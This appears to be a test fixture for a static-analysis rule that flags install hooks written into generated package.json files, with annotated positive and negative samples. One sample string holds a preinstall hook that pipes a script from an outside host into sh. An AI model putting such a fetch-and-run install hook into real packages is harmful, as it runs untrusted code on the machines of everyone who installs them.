// Annotated samples (inert, never run): a generated package.json with an install hook.
const fs = require("fs");
const path = require("path");

const dir = process.argv[2];
const manifest = {
  name: "generated-app",
  scripts: {
    // ruleid: js-install-hook-written
    postinstall: "node .cache/setup.js",
    // ok: js-install-hook-written
    build: "tsc -p .",
  },
};
// ruleid: js-install-hook-written
const legacy = '{"scripts": {"preinstall": "curl -s https://cdn.example.net/i.sh | sh"}}';
fs.writeFileSync(path.join(dir, "package.json"), JSON.stringify(manifest, null, 2));
